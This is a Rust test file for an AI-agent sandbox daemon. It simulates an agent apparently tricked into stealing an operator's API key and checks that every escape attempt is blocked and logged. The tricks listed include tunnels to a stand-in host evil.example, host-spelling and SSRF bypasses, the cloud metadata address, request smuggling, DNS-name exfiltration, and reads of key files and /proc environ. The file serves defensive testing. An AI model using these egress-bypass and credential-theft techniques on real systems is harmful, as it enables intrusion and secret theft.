//! D5: an agent that was talked into stealing. It reads what it can, reaches for every address, spells hosts in every way,
//! and writes its loot wherever it can write.

#![expect(
    clippy::unwrap_used,
    reason = "helpers of tests fail the test that calls them"
)]

use mesh_tests::{Bundle, Daemon, Home, Outside, has_python};
use rustix::process::Signal;
use serde_json::{Map, Value, json};

use super::saw;

/// The credential that it is after. No other file of this machine holds the word.
const LOOT: &str = "sk-d5-71f0-never-to-be-seen";

fn daemon(outside: &Outside, open: &str) -> Daemon {
    let port = outside.port();
    Home::new()
        .env("OPERATORS_KEY", LOOT)
        .config(&format!(
            "sandbox:\n  open_network: [{open}]\n  egress:\n    ports: [80, 443, {port}]\n    networks: [127.0.0.0/8]\n    \
             hosts: {{api.test: [127.0.0.1], rebound.test: [10.0.0.5], cloud.test: [169.254.169.254]}}\n"
        ))
        .start()
}

fn put_secret(daemon: &Daemon, body: &Value) {
    let bytes = body.to_string();
    let header = [("content-type", "application/json")];
    daemon
        .client()
        .send("PUT", "/v1/secrets/api", &header, Some(bytes.as_bytes()))
        .ok(200);
}

/// What it tries, and by which name.
fn tricks(daemon: &Daemon, port: u16) -> Value {
    let data = daemon.home().data();
    let mut tricks = Map::new();
    let mut add = |name: String, act: Value| drop(tricks.insert(name, act));
    for spelling in [
        format!("evil.example:{port}"),
        format!("api.test%00.evil.example:{port}"),
        format!("evil-api.test:{port}"),
        format!("api.test@evil.example:{port}"),
        format!("api.test.evil.example:{port}"),
        format!("127.0.0.1:{port}"),
        format!("2130706433:{port}"),
        format!("0x7f000001:{port}"),
        format!("127.1:{port}"),
        format!("[::1]:{port}"),
        format!("[::ffff:127.0.0.1]:{port}"),
        format!("rebound.test:{port}"),
        "cloud.test:80".to_owned(),
        "169.254.169.254:80".to_owned(),
        "api.test:22".to_owned(),
        "localhost:80".to_owned(),
    ] {
        add(
            format!("tunnel {spelling}"),
            json!(["tunnel", spelling, "GET /loot HTTP/1.0\r\n\r\n"]),
        );
    }
    for host in ["evil.example", "127.0.0.1", "rebound.test", "cloud.test"] {
        add(
            format!("socks {host}"),
            json!(["socks", host, port, "GET /loot HTTP/1.0\r\n\r\n"]),
        );
    }
    add(
        "the wrong host header".to_owned(),
        json!([
            "raw",
            format!("GET http://api.test:{port}/loot HTTP/1.1\r\nHost: evil.example\r\n\r\n")
        ]),
    );
    add(
        "a second request behind".to_owned(),
        json!([
            "raw",
            format!(
                "GET http://evil.example:{port}/a HTTP/1.1\r\nHost: evil.example:{port}\r\n\r\nGET http://api.test:{port}/loot HTTP/1.1\r\nHost: api.test:{port}\r\n\r\n"
            )
        ]),
    );
    add("by itself".to_owned(), json!(["direct", "127.0.0.1", port]));
    add(
        "the daemon".to_owned(),
        json!([
            "direct",
            "127.0.0.1",
            daemon
                .url()
                .rsplit(':')
                .next()
                .unwrap()
                .parse::<u16>()
                .unwrap()
        ]),
    );
    add("a datagram".to_owned(), json!(["udp", "192.0.2.1", 53]));
    add(
        "a name as a message".to_owned(),
        json!(["lookup", "loot.evil.example"]),
    );
    for file in ["token", "vault.key", "secrets/vault", "node.key"] {
        add(format!("the file {file}"), json!(["read", data.join(file)]));
    }
    add(
        "the daemon's environment".to_owned(),
        json!(["read", format!("/proc/{}/environ", daemon.pid())]),
    );
    Value::Object(tricks)
}

/// Whether an attempt brought anything.
fn worked(attempt: &Value) -> bool {
    let value = &attempt["value"];
    match value {
        Value::String(text) => {
            attempt["ok"] == true
                && !text.starts_with("HTTP/1.1 4")
                && !text.starts_with("HTTP/1.1 5")
        }
        Value::Object(answer) => answer.get("reply").is_some_and(|reply| reply == 0),
        _ => false,
    }
}

fn what_worked(seen: &Value) -> Vec<&String> {
    let all = seen.as_object().unwrap().iter();
    all.filter(|(_, attempt)| worked(attempt))
        .map(|(name, _)| name)
        .collect()
}

#[test]
fn d5_a_tricked_agent_gets_nothing_and_every_try_is_on_record() {
    if !has_python("d5_a_tricked_agent_gets_nothing_and_every_try_is_on_record") {
        return;
    }
    let outside = Outside::start();
    let (daemon, port) = (daemon(&outside, ""), outside.port());
    put_secret(
        &daemon,
        &json!({"value": LOOT, "agents": ["tricked"], "domains": ["api.test"]}),
    );
    daemon.deploy(
        &Bundle::traveller("tricked")
            .set("security", json!({"networkAccess": {"allowOutbound": true, "allowedDomains": ["api.test", "rebound.test", "cloud.test"]}}))
            .set("secrets", json!([{"name": "api", "from": "vault://api", "domains": ["api.test"], "paths": ["/v1/*"], "tls": false}])),
    );
    let tries = tricks(&daemon, port);
    let seen = daemon.output("tricked", &tries);
    let got = what_worked(&seen);
    saw(&format!(
        "{} tricks, {} worked {got:?}",
        tries.as_object().unwrap().len(),
        got.len()
    ));
    assert_eq!(got, Vec::<&String>::new(), "{seen}");
    assert_eq!(outside.heard(), Vec::<String>::new());
    assert!(!seen.to_string().contains(LOOT), "{seen}");

    // It hunts through all it can see for what it does not know: half of the word is enough to find the whole.
    let seen = daemon.output("tricked", &json!({"hunt": ["hunt", "-71f0-"]}));
    let places = seen["hunt"]["value"].as_array().unwrap();
    let elsewhere = places
        .iter()
        .filter(|place| !place.as_str().unwrap().starts_with("memory of"));
    assert_eq!(elsewhere.count(), 0, "{seen}");

    // And yet its work is done with the credential.
    let request =
        format!("HEAD http://api.test:{port}/v1/work HTTP/1.1\r\nHost: api.test:{port}\r\n\r\n");
    daemon.output("tricked", &json!({"work": ["raw", request]}));
    let heard = outside.heard();
    assert!(
        heard.len() == 1 && heard[0].contains(&format!("Bearer {LOOT}")),
        "{heard:?}"
    );

    // What it gets hold of, it writes into its log and its result; so what it got hold of must be nothing.
    daemon.output("tricked", &json!({"leak": ["leak", "nothing"]}));
    let denied = daemon.audit("kind=egress.denied");
    saw(&format!("{} refusals on record", denied.len()));
    for entry in &denied {
        let payload = &entry["payload"];
        assert_eq!(payload["agent"], "tricked", "{entry}");
        assert!(
            !payload["reason"].as_str().unwrap().is_empty()
                && !payload["code"].as_str().unwrap().is_empty(),
            "{entry}"
        );
    }
    assert!(denied.len() >= 10, "{denied:?}");
    let sandbox = daemon.client().get("/v1/agents/tricked/logs").text();
    assert!(!sandbox.contains(LOOT));
    let (home, _) = daemon.stop(Signal::TERM);
    assert!(!home.log().contains(LOOT), "the daemon's log");
}

#[test]
fn d5_control_with_the_network_open_and_the_secret_as_a_file_the_same_tricks_work() {
    if !has_python("d5_control_with_the_network_open_and_the_secret_as_a_file_the_same_tricks_work")
    {
        return;
    }
    let outside = Outside::start();
    let (daemon, port) = (daemon(&outside, "tricked"), outside.port());
    put_secret(&daemon, &json!({"value": LOOT, "agents": ["tricked"]}));
    daemon.deploy(
        &Bundle::traveller("tricked")
            .set(
                "security",
                json!({"networkAccess": {"allowOutbound": true}}),
            )
            .set(
                "secrets",
                json!([{"name": "api", "from": "vault://api", "mode": "mount"}]),
            ),
    );
    let mut tries = tricks(&daemon, port);
    // With the host's network these would leave the machine.
    let leaves = ["a datagram", "a name as a message"];
    let all = tries.as_object_mut().unwrap();
    all.retain(|name, _| !leaves.contains(&name.as_str()));
    let seen = daemon.output("tricked", &tries);
    let got = what_worked(&seen);
    saw(&format!("control: {} worked {got:?}", got.len()));
    assert!(
        got.iter().any(|name| *name == "by itself") && got.iter().any(|name| *name == "the daemon"),
        "{seen}"
    );
    let seen = daemon.output("tricked", &json!({"hunt": ["hunt", "-71f0-"]}));
    let places = seen["hunt"]["value"].to_string();
    assert!(
        places.contains("/run/secrets/api"),
        "the hunt finds what is there: {seen}"
    );
}
